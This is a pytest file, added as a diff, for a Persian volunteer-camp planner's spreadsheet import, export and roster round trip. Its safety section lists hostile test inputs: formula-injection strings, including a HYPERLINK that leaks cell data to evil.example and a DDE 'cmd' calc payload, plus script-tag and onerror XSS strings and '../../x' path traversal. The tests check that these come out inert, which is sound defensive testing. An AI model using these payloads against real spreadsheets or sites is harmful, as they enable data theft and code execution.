@@ -1,0 +1,518 @@
+"""Spreadsheets in and out: import, export, reading an edited roster back, and safety.
+
+The round trip the planners live: workbook -> instance -> roster -> workbook -> check.
+Hostile names (``=HYPERLINK(...)``, ``<script>``, ``../../x``) must come out inert.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from builders import camp, make_instance, place, requirement, tiny_data, volunteer
+from campplanner.check import check_solution_file, load_solution
+from campplanner.cli import main
+from campplanner.contract import Instance
+from campplanner.errors import InstanceError
+from campplanner.io.csv_out import roster_csv_files
+from campplanner.io.roster_model import roster_view
+from campplanner.io.sanitize import (
+    file_stem,
+    is_formula_like,
+    neutralize_csv,
+    restore_csv,
+    sheet_name,
+)
+from campplanner.io.template import instance_workbook, template_data
+from campplanner.io.workbook_in import import_workbook
+from campplanner.io.workbook_out import roster_workbook
+from campplanner.loader import instance_from_data
+from campplanner.problem import compile_instance
+from campplanner.solution import solution_data
+from campplanner.solver import CpSatSolver, SolveOptions
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-3+4",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "<script>alert(1)</script>",
+    "../../x",
+]
+
+
+def run(*args: str) -> Any:
+    return CliRunner().invoke(main, list(args), catch_exceptions=False)
+
+
+def comparable(instance: Instance) -> dict[str, Any]:
+    data = instance.model_dump()
+    data.pop("format")
+    return data
+
+
+def solve_data(data: dict[str, Any]) -> dict[str, Any]:
+    instance = instance_from_data(data)
+    problem = compile_instance(instance)
+    result = CpSatSolver(problem, SolveOptions(time_limit=20)).solve()
+    return solution_data(problem, result)
+
+
+def write_book(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
+    """A workbook as a planner might type it (openpyxl, no template)."""
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name, rows in sheets.items():
+        sheet = book.create_sheet(name)
+        for row in rows:
+            sheet.append(row)
+    book.save(path)
+    return path
+
+
+@pytest.fixture(scope="module")
+def tiny_solution(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("tiny") / "solution.json"
+    path.write_text(json.dumps(solve_data(tiny_data()), ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+# ------------------------------------------------------------------------------ import
+
+
+@pytest.mark.parametrize("data", [tiny_data(), template_data()], ids=["tiny", "template"])
+def test_instance_to_workbook_and_back_is_the_same_instance(tmp_path: Path, data: dict) -> None:
+    path = tmp_path / "season.xlsx"
+    path.write_bytes(instance_workbook(data))
+    result = import_workbook(path)
+    assert comparable(result.instance) == comparable(instance_from_data(data))
+    assert result.warnings == []
+    assert not result.calendar_guessed  # the settings sheet says jalali
+
+
+def test_template_command_writes_a_workbook_that_imports(tmp_path: Path) -> None:
+    template = tmp_path / "template.xlsx"
+    assert run("import", "--template", str(template)).exit_code == 0
+    out = tmp_path / "season.json"
+    result = run("import", str(template), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    assert run("validate", str(out)).exit_code == 0
+    assert run("import", "--template", str(template)).exit_code == 2  # exists: --force
+
+
+def test_shipped_template_matches_the_generator() -> None:
+    shipped = Path(__file__).resolve().parents[1] / "docs" / "template.xlsx"
+    result = import_workbook(shipped)
+    assert comparable(result.instance) == comparable(instance_from_data(template_data()))
+
+
+def _persian_book(tmp_path: Path) -> Path:
+    """Persian headers only, Arabic ي/ك, Persian digits, skills by name, Jalali text dates."""
+    return write_book(
+        tmp_path / "persian.xlsx",
+        {
+            "تنظیمات": [["تقویم", "شمسی"], ["نام", "اردوی تابستان"], ["روزهای استراحت", "۱"]],
+            "مهارت ها": [["شناسه", "نام"], ["nurse", "پرستار"], ["leader", "سرپرست"]],
+            "مکانها": [
+                ["شناسه", "نام", "عرض جغرافیایی", "طول جغرافیایی", "شهرستان"],
+                ["اراك", "اراك", "۳۴٫۰۹۱۷", 49.6892, "اراك"],
+                ["روستا۱", "روستاي يك", "34.2", "۴۹٫۵", "اراك"],
+            ],
+            "داوطلبان": [
+                ["شناسه", "نام", "محل سکونت", "جنسیت", "مهارت‌ها", "حداکثر مسافت"],
+                ["v۰۱", "زهرا كريمي", "اراک", "زن", "پرستار:۲، leader", "۱۰۰"],
+                ["v02", "علی", "اراك", "مرد", "nurse", None],
+            ],
+            "حضور": [
+                ["داوطلب", "از", "تا"],
+                ["v01", "۱۴۰۰/۴/۱", "۱۴۰۰-۰۴-۳۱"],
+                ["v02", None, None],
+            ],
+            "اردوها": [
+                ["شناسه", "نام", "محل", "شروع", "پایان", "ظرفیت", "اولویت", "جنسیت"],
+                ["c۱", "اردوی سلامت", "روستا۱", "۱۴۰۰/۰۴/۱۰", "1400-04-14", "۴", 3.0, "خواهر"],
+            ],
+            "نیازها": [
+                ["اردو", "مهارت", "تعداد", "سطح", "ضروری"],
+                ["c1", "پرستار", 2, "۲", "بله"],
+                ["c1", "leader", 1, None, "خیر"],
+            ],
+        },
+    )
+
+
+def test_persian_headers_digits_letters_and_jalali_dates(tmp_path: Path) -> None:
+    result = import_workbook(_persian_book(tmp_path))
+    data = result.data
+    assert data["calendar"] == "jalali" and data["name"] == "اردوی تابستان"
+    assert data["rules"] == {"rest_days": 1}
+    arak = data["places"][0]
+    assert arak["id"] == "اراک" and arak["county"] == "اراک"  # Arabic kaf -> Persian
+    assert arak["lat"] == pytest.approx(34.0917)
+    assert data["places"][1]["name"] == "روستای یک"
+    v01, v02 = data["volunteers"]
+    assert v01["id"] == "v01" and v01["name"] == "زهرا کریمی" and v01["home"] == "اراک"
+    assert v01["skills"] == {"nurse": 2, "leader": 1}  # "پرستار" is the name of nurse
+    assert v01["gender"] == "f" and v01["max_km"] == 100
+    assert v01["available"] == [["1400-04-01", "1400-04-31"]]
+    assert v02["available"] == []  # a row with no dates: free on no day
+    (c1,) = data["camps"]
+    assert c1["id"] == "c1" and c1["place"] == "روستا1"
+    assert (c1["start"], c1["end"], c1["capacity"], c1["priority"]) == (
+        "1400-04-10", "1400-04-14", 4, 3)  # fmt: skip
+    assert c1["gender"] == "f"
+    assert c1["requirements"] == [
+        {"skill": "nurse", "count": 2, "level": 2, "essential": True},
+        {"skill": "leader", "count": 1, "essential": False},
+    ]
+
+
+def test_a_folder_of_csv_files_reads_like_the_workbook(tmp_path: Path) -> None:
+    book = openpyxl.load_workbook(_persian_book(tmp_path))
+    folder = tmp_path / "csv"
+    folder.mkdir()
+    for index, sheet in enumerate(book.worksheets):
+        delimiter = ";" if index % 2 else ","  # Excel writes ';' in some locales
+        buffer = io.StringIO()
+        writer = csv.writer(buffer, delimiter=delimiter)
+        for row in sheet.iter_rows(values_only=True):
+            writer.writerow(["" if v is None else v for v in row])
+        (folder / f"{sheet.title}.csv").write_text(buffer.getvalue(), encoding="utf-8-sig")
+    from_csv = import_workbook(folder)
+    from_book = import_workbook(tmp_path / "persian.xlsx")
+    assert from_csv.data == {**from_book.data, "name": from_book.data["name"]}
+
+
+def test_gregorian_dates_stored_as_dates(tmp_path: Path) -> None:
+    import datetime as dt
+
+    data = make_instance()
+    path = tmp_path / "g.xlsx"
+    path.write_bytes(instance_workbook(data))
+    book = openpyxl.load_workbook(path)
+    sheet = book["اردوها"]
+    sheet["D2"].value = dt.datetime(2021, 7, 1)  # a real spreadsheet date
+    book.save(path)
+    result = import_workbook(path)
+    assert result.data["camps"][0]["start"] == "2021-07-01"
+    # The same day, in a workbook that says Jalali: written in the Jalali calendar.
+    assert import_workbook(path, calendar="jalali").data["camps"][0]["start"] == "1400-04-10"
+
+
+def test_calendar_is_guessed_from_the_years_when_nobody_says(tmp_path: Path) -> None:
+    path = _persian_book(tmp_path)
+    book = openpyxl.load_workbook(path)
+    del book["تنظیمات"]
+    book.save(path)
+    result = import_workbook(path)
+    assert result.data["calendar"] == "jalali" and result.calendar_guessed
+
+
+def _errors(path: Path, **options: Any) -> list[str]:
+    with pytest.raises(InstanceError) as caught:
+        import_workbook(path, **options)
+    return [str(issue) for issue in caught.value.issues]
+
+
+def test_errors_name_the_sheet_row_and_column(tmp_path: Path) -> None:
+    path = _persian_book(tmp_path)
+    book = openpyxl.load_workbook(path)
+    camps = book["اردوها"]
+    camps["F2"] = "5.5"  # capacity
+    camps["D2"] = "1400-13-01"  # start
+    volunteers = book["داوطلبان"]
+    volunteers["C3"] = "tehran"  # home of v02: unknown place (found by the loader)
+    volunteers["E3"] = "nurse:7"
+    book["نیازها"]["A3"] = "c9"
+    book.save(path)
+    errors = _errors(path)
+    assert (
+        "sheet 'اردوها', row 2, column 'capacity' (F): expected a whole number, got '5.5'" in errors
+    )
+    assert any(e.startswith("sheet 'اردوها', row 2, column 'start' (D): '1400-13-01'")
+               for e in errors)  # fmt: skip
+    assert any(e.startswith("sheet 'داوطلبان', row 3, column 'skills' (E)") for e in errors)
+    assert "sheet 'نیازها', row 3, column 'camp' (A): unknown camp 'c9'" in errors
+    # Fix the cell errors: the loader's cross-checks are mapped back to their cells too.
+    camps["F2"], camps["D2"], volunteers["E3"], book["نیازها"]["A3"] = (
+        5,
+        "1400-04-10",
+        "nurse",
+        "c1",
+    )
+    book.save(path)
+    assert _errors(path) == ["sheet 'داوطلبان', row 3, column 'home' (C): unknown place 'tehran'"]
+
+
+def test_missing_sheets_columns_and_required_cells(tmp_path: Path) -> None:
+    path = _persian_book(tmp_path)
+    book = openpyxl.load_workbook(path)
+    del book["مهارت ها"]
+    book["مکانها"]["C1"] = "ارتفاع"  # no lat column any more
+    book.save(path)
+    errors = _errors(path)
+    assert any("no skills sheet" in e for e in errors)
+    book = openpyxl.load_workbook(_persian_book(tmp_path))
+    book["مکانها"]["C1"] = "ارتفاع"
+    book["اردوها"]["F2"] = None
+    book.save(path)
+    errors = _errors(path)
+    assert "sheet 'مکانها', row 1: no 'lat' column (head it 'lat' or 'عرض جغرافیایی')" in errors
+    book["مکانها"]["C1"] = "lat"
+    book.save(path)
+    assert _errors(path) == ["sheet 'اردوها', row 2, column 'capacity' (F): required, but empty"]
+
+
+def test_import_command_exit_codes_and_messages(tmp_path: Path) -> None:
+    path = _persian_book(tmp_path)
+    out = tmp_path / "season.json"
+    result = run("import", str(path), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    assert json.loads(out.read_text(encoding="utf-8"))["calendar"] == "jalali"
+    assert run("import", str(path), "-o", str(out)).exit_code == 2  # exists
+    assert run("import", str(path), "-o", str(path), "--force").exit_code == 2  # an input
+    book = openpyxl.load_workbook(path)
+    book["اردوها"]["F2"] = "many"
+    book.save(path)
+    result = run("import", str(path), "-o", str(tmp_path / "other.json"))
+    assert result.exit_code == 2
+    assert "column 'capacity' (F)" in result.output and "Traceback" not in result.output
+    assert not (tmp_path / "other.json").exists()
+    for bad in (tmp_path / "missing.xlsx", tmp_path / "season.json"):
+        result = run("import", str(bad), "-o", str(tmp_path / "x.json"))
+        assert result.exit_code == 2 and "Traceback" not in result.output
+
+
+# ------------------------------------------------------------------------------ export
+
+
+def test_round_trip_workbook_instance_roster_workbook_check(tmp_path: Path) -> None:
+    """The planners' loop: their workbook in, a roster workbook out, edited, checked."""
+    source = tmp_path / "season.xlsx"
+    source.write_bytes(instance_workbook(tiny_data()))
+    instance_file = tmp_path / "season.json"
+    assert run("import", str(source), "-o", str(instance_file)).exit_code == 0
+    solution = tmp_path / "solution.json"
+    assert run("solve", str(instance_file), "-o", str(solution), "-q",
+               "--time-limit", "20").exit_code == 0  # fmt: skip
+    roster = tmp_path / "roster.xlsx"
+    result = run("export", str(instance_file), str(solution), "--xlsx", str(roster))
+    assert result.exit_code == 0, result.output
+
+    result = run("check", str(instance_file), str(roster), "--json")
+    assert result.exit_code == 0, result.output
+    report = json.loads(result.output)
+    assert report["ok"] and report["coverage"] == 29  # tiny's optimum (tests/test_check.py)
+    assert report["num_assignments"] == len(load_solution(solution).assignments)
+
+    # A planner edits the master roster: puts v08 (free on no day) into the empty slot.
+    book = openpyxl.load_workbook(roster)
+    sheet = book["برنامه کل"]
+    headers = [cell.value for cell in sheet[1]]
+    volunteer_column = headers.index("شناسه داوطلب (volunteer)") + 1
+    empty_rows = [row for row in range(2, sheet.max_row + 1)
+                  if sheet.cell(row, volunteer_column).value is None]  # fmt: skip
+    assert empty_rows, "tiny's optimum leaves one mason slot of c2 empty"
+    sheet.cell(empty_rows[0], volunteer_column).value = "v08"
+    book.save(roster)
+    result = run("check", str(instance_file), str(roster), "--json")
+    assert result.exit_code == 1
+    assert "H2" in json.loads(result.output)["violations_per_rule"]
+
+    # The edited roster exports again (a workbook is a solution file too).
+    html = tmp_path / "edited.html"
+    assert run("export", str(instance_file), str(roster), "--html", str(html)).exit_code == 0
+
+
+def test_exported_workbook_layout(tmp_path: Path, tiny_path: Path, tiny_solution: Path) -> None:
+    view = roster_view(instance_from_data(tiny_data()), load_solution(tiny_solution))
+    path = tmp_path / "roster.xlsx"
+    path.write_bytes(roster_workbook(view))
+    book = openpyxl.load_workbook(path)
+    names = book.sheetnames
+    assert names[:4] == ["خلاصه", "برنامه کل", "برنامه داوطلبان", "جاهای خالی"]
+    assert len(names) == 4 + 4  # tiny has four camps: a sheet per camp
+    assert all(book[name].sheet_view.rightToLeft for name in names)
+    master = book["برنامه کل"]
+    assert master["E2"].value == "1400-04-10"  # Jalali dates as text
+    rows = list(master.iter_rows(min_row=2, values_only=True))
+    assert len(rows) == sum(r["count"] for c in tiny_data()["camps"] for r in c["requirements"])
+    unfilled = list(book["جاهای خالی"].iter_rows(min_row=2, values_only=True))
+    assert [(r[0], r[5], r[11]) for r in unfilled] == [("c2", "mason", 1)]
+    itineraries = list(book["برنامه داوطلبان"].iter_rows(min_row=2, values_only=True))
+    assert len(itineraries) == len(load_solution(tiny_solution).assignments)
+    # The same roster gives the same bytes (a fixed creation date).
+    assert roster_workbook(view) == path.read_bytes()
+
+
+def test_many_camps_give_a_sheet_per_county(tmp_path: Path) -> None:
+    counties = ["خمین", "ساوه", "../../x", "a[b]:c*?/d\\e", "اراک" * 20, "History"]
+    places = [place(f"p{i}", 34.0 + i / 100, 49.7, county=c) for i, c in enumerate(counties)]
+    camps = [camp(f"c{i}", place=f"p{i % len(counties)}") for i in range(12)]
+    data = make_instance(places=places, groups=[], camps=camps,
+                         volunteers=[volunteer("v1", home="p0")])  # fmt: skip
+    solution = {"status": "feasible", "assignments": []}
+    view = roster_view(instance_from_data(data), load_solution_data(solution))
+    book = openpyxl.load_workbook(io.BytesIO(roster_workbook(view)))
+    county_sheets = book.sheetnames[4:]
+    assert len(county_sheets) == len(counties)
+    for name in county_sheets:
+        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
+    assert len({name.casefold() for name in book.sheetnames}) == len(book.sheetnames)
+    assert "History" not in book.sheetnames
+
+
+def load_solution_data(data: dict[str, Any]) -> Any:
+    from campplanner.check import solution_from_data
+
+    return solution_from_data(data)
+
+
+def test_csv_files_have_a_bom_and_stay_in_their_folder(tmp_path: Path, tiny_solution: Path) -> None:
+    data = tiny_data()
+    data["places"][3]["county"] = "../../x"
+    data["places"][4]["county"] = "CON"
+    instance_file = tmp_path / "i.json"
+    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    folder = tmp_path / "deep" / "out"
+    folder.parent.mkdir()
+    result = run("export", str(instance_file), str(tiny_solution), "--csv", str(folder))
+    assert result.exit_code == 0, result.output
+    written = sorted(p.name for p in folder.iterdir())
+    assert {"roster.csv", "itineraries.csv", "unfilled_slots.csv", "skills.csv",
+            "summary.csv"} <= set(written)  # fmt: skip
+    assert sorted(p.name for p in tmp_path.rglob("*.csv")) == written  # nothing escaped
+    assert "county-_x.csv" in written and "county-CON.csv" in written
+    assert not any(".." in name or "/" in name for name in written)
+    for path in folder.iterdir():
+        raw = path.read_bytes()
+        assert raw.startswith(b"\xef\xbb\xbf")
+    roster = (folder / "roster.csv").read_text(encoding="utf-8-sig")
+    assert "اردوی سلامت خمین" in roster
+    # Exporting again refuses to replace the files, unless --force.
+    result = run("export", str(instance_file), str(tiny_solution), "--csv", str(folder))
+    assert result.exit_code == 2
+    assert run("export", str(instance_file), str(tiny_solution), "--csv", str(folder),
+               "--force").exit_code == 0  # fmt: skip
+
+
+def test_export_refuses_bad_outputs(tmp_path: Path, tiny_path: Path, tiny_solution: Path) -> None:
+    assert run("export", str(tiny_path), str(tiny_solution)).exit_code == 2  # no output named
+    result = run("export", str(tiny_path), str(tiny_solution), "--html", str(tiny_solution))
+    assert result.exit_code == 2 and "input" in result.output
+    same = str(tmp_path / "r.out")
+    assert run("export", str(tiny_path), str(tiny_solution), "--xlsx", same,
+               "--html", same).exit_code == 2  # fmt: skip
+    other = tmp_path / "someone.html"
+    other.write_text("not ours")
+    assert run("export", str(tiny_path), str(tiny_solution), "--html", str(other)).exit_code == 2
+    assert other.read_text() == "not ours"
+    bad = tmp_path / "bad.json"
+    bad.write_text('{"status": "feasible", "assignments": [{"volunteer": "nobody", '
+                   '"camp": "c1", "skill": "nurse"}]}')  # fmt: skip
+    result = run("export", str(tiny_path), str(bad), "--html", str(tmp_path / "r.html"))
+    assert result.exit_code == 2 and "assignments[0].volunteer" in result.output
+
+
+def test_check_refuses_a_workbook_without_a_roster(tmp_path: Path, tiny_path: Path) -> None:
+    path = write_book(tmp_path / "x.xlsx", {"Sheet": [["a", "b"], [1, 2]]})
+    result = run("check", str(tiny_path), str(path))
+    assert result.exit_code == 2 and "no roster sheet" in result.output
+    path = write_book(tmp_path / "y.xlsx", {
+        "roster": [["camp", "skill", "volunteer"], ["c1", None, "v01"]]})  # fmt: skip
+    result = run("check", str(tiny_path), str(path))
+    assert result.exit_code == 2 and "sheet 'roster', row 2, column 'skill' (B)" in result.output
+
+
+# ------------------------------------------------------------------------------ safety
+
+
+def test_formula_neutralisers() -> None:
+    for text in HOSTILE[:7]:
+        assert is_formula_like(text)
+        assert neutralize_csv(text).startswith("'")
+        assert restore_csv(neutralize_csv(text)) == text
+    for text in ("علی", "v01", "1400-04-10", "'quoted", ""):
+        assert not is_formula_like(text)
+        assert neutralize_csv(text) == text == restore_csv(text)
+    assert file_stem("../../x") == "x"
+    assert file_stem("..") == "unnamed" and file_stem("nul.txt").startswith("unnamed-")
+    used: set[str] = set()
+    assert sheet_name("a/b", used) == "a_b" and sheet_name("A/B", used) == "A_B (2)"
+
+
+def _hostile_instance() -> dict[str, Any]:
+    """Every name, and some ids, hostile; still a valid instance with a roster."""
+    data = make_instance(
+        places=[place("arak", 34.09, 49.69, county="../../x"),
+                place("village", 34.2, 49.5, county="=HYPERLINK(\"http://e.example\")")],
+        volunteers=[volunteer(f"v{i}", name=name, skills={"nurse": 1})
+                    for i, name in enumerate(HOSTILE)]
+        + [volunteer("=1+1", name="@cmd", skills={"nurse": 1})],
+        camps=[camp("-c1", name="<script>alert('camp')</script>", capacity=20,
+                    requirements=[requirement("nurse", count=len(HOSTILE) + 1)]),
+               camp("+c2", name="../../x", requirements=[requirement("leader")])],
+    )  # fmt: skip
+    data["skills"][1]["name"] = '<img src=x onerror="alert(1)">'
+    data["name"] = "=cmd|'/C calc'!A0"
+    return data
+
+
+def test_hostile_names_are_inert_in_the_workbook_and_the_csv(tmp_path: Path) -> None:
+    data = _hostile_instance()
+    instance_file = tmp_path / "i.json"
+    instance_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    solution = tmp_path / "s.json"
+    solution.write_text(json.dumps(solve_data(data), ensure_ascii=False), encoding="utf-8")
+    roster = tmp_path / "roster.xlsx"
+    result = run("export", str(instance_file), str(solution), "--xlsx", str(roster),
+                 "--csv", str(tmp_path / "csv"))  # fmt: skip
+    assert result.exit_code == 0, result.output
+
+    # No formula anywhere in the workbook's XML, and every formula-like text is a quoted string.
+    with zipfile.ZipFile(roster) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+    book = openpyxl.load_workbook(roster)
+    seen = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and is_formula_like(cell.value):
+                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
+                    seen.add(cell.value)
+    assert {'=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "-c1"} <= seen
+
+    # CSV: every field that starts like a formula has the apostrophe.
+    for path in (tmp_path / "csv").iterdir():
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
+            for field in row:
+                assert not field or field[0] not in "=+-@\t\r", (path.name, field)
+    assert all(".." not in p.name for p in (tmp_path / "csv").iterdir())
+
+    # The workbook reads back to the same roster: ids such as "=1+1" survive the trip.
+    report = check_solution_file(instance_file, roster)
+    assert report.ok and report.num_assignments == len(load_solution(solution).assignments)
+    assert {a.volunteer for a in load_solution(roster).assignments} >= {"=1+1", "v0"}
+
+
+def test_csv_export_api_matches_the_master_sheet(tiny_solution: Path) -> None:
+    view = roster_view(instance_from_data(tiny_data()), load_solution(tiny_solution))
+    files = roster_csv_files(view)
+    roster = list(csv.reader(io.StringIO(files["roster.csv"].decode("utf-8-sig"))))
+    book = openpyxl.load_workbook(io.BytesIO(roster_workbook(view)))
+    master = [["" if v is None else str(v) for v in row]
+              for row in book["برنامه کل"].iter_rows(values_only=True)]  # fmt: skip
+    assert roster == master
